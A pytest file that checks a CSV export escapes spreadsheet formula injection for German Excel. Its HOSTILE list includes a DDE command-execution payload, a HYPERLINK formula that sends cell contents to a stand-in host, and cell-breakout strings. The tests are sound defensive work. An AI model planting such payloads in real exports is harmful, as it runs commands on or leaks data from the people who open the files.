"""Exports as a German Excel opens them: nothing in a cell is ever a formula."""

import asyncio
import csv
import io

import pytest
from openpyxl import Workbook

from integrations.web.csv_export import as_typed, csv_response, harmless

HOSTILE = [
    "=1+1",
    "+49 211 123456",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("http://x.example?"&A1;"klick")',
    "=cmd|' /C calc'!A0",
    'a";=1+1;"b',
    "zwei\n=Zeilen",
]


def table(*rows: list[object]) -> bytes:
    async def read() -> bytes:
        response = csv_response("probe", ["Frage", "Anzahl"], rows)  # type: ignore[arg-type]
        return b"".join([part async for part in response.body_iterator])  # type: ignore[attr-defined]

    return asyncio.run(read())


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_is_a_formula(text: str) -> None:
    content = table([text, 5])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert len(rows) == 2 and len(rows[1]) == 2, "the cell has broken out of its place"
    sheet = Workbook().active
    assert sheet is not None
    sheet.append(rows[1])
    assert sheet["A2" if sheet.max_row > 1 else "A1"].data_type == "s"
    shown = rows[1][0]
    assert shown.removeprefix("'") == as_typed(shown) == text
    assert not shown.lstrip().startswith(tuple("=+-@＝"))


def test_what_is_no_formula_stays_as_it_is() -> None:
    for text in ("Wie hoch ist der Zuschuss?", 'Ä; Ö "Ü"', "1.250 €", "a=b", ""):
        assert harmless(text) == as_typed(text) == text
    assert as_typed("'s ist so") == "'s ist so"
    rows = list(csv.reader(io.StringIO(table(["Ä; \"Ö\"\nü", -5]).decode("utf-8-sig"),
                                       newline=""), delimiter=";"))  # fmt: skip
    assert rows == [["Frage", "Anzahl"], ['Ä; "Ö"\nü', "-5"]]
